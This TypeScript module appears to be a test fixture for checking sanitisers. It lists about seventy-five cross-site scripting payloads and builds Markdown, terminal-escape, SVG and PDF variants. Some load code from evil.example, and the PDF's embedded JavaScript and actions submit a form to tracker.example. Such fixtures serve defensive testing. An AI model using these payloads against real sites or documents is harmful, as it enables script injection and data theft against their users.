import { pdfOf, pdfText } from './pdf.ts';

/**
 * What strangers write to have their code run by who reads it. Each sets `xss`, asks with a dialog, or leaves an element or
 * attribute behind where text is read as markup. At most 100 characters each, as names are.
 */
export const payloads: readonly string[] = [
  '<script>xss=1</script>',
  '<SCRIPT>xss=1</SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,xss=1"></script>',
  '<script type=module>import "//evil.example/x.js"</script>',
  '<scr<script>ipt>xss=1</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</pre></code><script>alert(1)</script>',
  '<img src=x onerror=xss=1>',
  '<img src=x onerror="alert(1)">',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img srcset="x 1x" onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">press</a>',
  '<a href="JaVaScRiPt:alert(1)">press</a>',
  '<a href="&#106;avascript:alert(1)">press</a>',
  '<a href="java\tscript:alert(1)">press</a>',
  '<a href="data:text/html,<script>alert(1)</script>">press</a>',
  '<a href="vbscript:msgbox(1)">press</a>',
  '<form action="javascript:alert(1)"><button>press</button></form>',
  '<button formaction="javascript:alert(1)">press</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>',
  '<dialog open onclose=alert(1)></dialog>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@import "//evil.example/xss.css"</style>',
  '<style onload=alert(1)></style>',
  '<link rel=stylesheet href="//evil.example/xss.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>',
  '<div onpointerenter="alert(1)">x</div>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<xss-mark id=x tabindex=1 onfocus=alert(1)></xss-mark>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '[press](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  'javascript:alert(1)//',
  'javascript:/*--></title></style></script><svg onload=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '`onmouseover=alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '__proto__',
  '\u202e>tpircs/<1=ssx>tpircs<',
];

/** All of them in one text, a line each. */
export const corpus = payloads.join('\n');

/** The corpus in parts of at most `chars` characters. */
export function corpusIn(chars: number): string[] {
  const parts: string[] = [];
  for (const payload of payloads) {
    const last = parts.at(-1);
    if (last !== undefined && last.length + payload.length < chars) parts[parts.length - 1] = `${last}\n${payload}`;
    else parts.push(payload);
  }
  return parts;
}

/** What Markdown would make of an attack: links that run, pictures that are fetched, HTML in every place. */
export const markdownAttacks = [
  '# Heading <script>xss=1</script>',
  '[press](javascript:alert(1)) [press](JaVaScRiPt:alert(1)) [press](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)> [ref][bad] ![ref][pic] [x](https://x.example "onmouseover=alert(1)")',
  '![a](https://tracker.example/pixel.png) ![b](//evil.example/pixel.png) ![c](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<details open ontoggle=alert(1)>\n\n<img src=x onerror=alert(1)>\n\n</details>',
  '```js" onload="alert(1)\n</code></pre><script>xss=1</script>\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [p](javascript:alert(1)) | <svg onload=alert(1)> |',
  'Note[^1]\n\n[^1]: <iframe onload=alert(1)></iframe>',
  '- [x] <img src=x onerror=alert(1)>\n- <style>@import "//evil.example/xss.css"</style>',
  '> quoted <object data="javascript:alert(1)"></object>',
  'www.evil.example\u202e javascript:alert(1)',
  '[bad]: javascript:alert(1)\n[pic]: https://tracker.example/ref.png',
].join('\n\n');

/** What a terminal would make of one: titles, links, colours around markup. */
export const terminalAttacks = payloads
  .map(
    (each) =>
      `\u001b[31m${each}\u001b[0m\u001b]8;;javascript:alert(1)\u001b\\link\u001b]8;;\u001b\\\u001b]0;${each}\u0007`,
  )
  .join('\n');

/** A drawing that would run and load. */
export const drawingAttack =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.xss=1"><script>parent.xss=1;alert(1)</script><image href="https://tracker.example/p.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>';

const runs = `/S /JavaScript /JS ${pdfText('xss=1;parent.xss=1;app.alert("xss");this.submitForm("https://tracker.example/js")')}`;

/** A PDF that would run when it is opened, turned, typed in or left, follow links, send a form and fetch what it is made of. */
export const pdfAttack = pdfOf([payloads, payloads.slice(0, 5)], {
  catalogue: `/OpenAction << ${runs} >> /AA << /WC << ${runs} >> /WS << ${runs} >> >>
    /Names << /JavaScript << /Names [(a) << ${runs} >>] >> >>
    /AcroForm << /Fields [7 0 R 8 0 R] /NeedAppearances true /CO [7 0 R] >>`,
  page: `/AA << /O << ${runs} >> /C << ${runs} >> >> /Annots [5 0 R 6 0 R 7 0 R 8 0 R 9 0 R]`,
  objects: [
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://tracker.example/link) >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (typed) /V ${pdfText(payloads[11]!)} /Rect [50 50 400 80]
       /DA (/F 11 Tf) /AA << /K << ${runs} >> /F << ${runs} >> /Fo << ${runs} >> >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 595 842] /MK << /CA (Send) >>
       /A << /S /SubmitForm /F << /FS /URL /F (https://tracker.example/form) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [50 90 400 120] /A << /S /Launch /F (https://tracker.example/launch)
       /Next << /S /GoToR /F << /FS /URL /F (https://tracker.example/far.pdf) >> /D [0 /Fit] >> >> >>`,
  ],
});
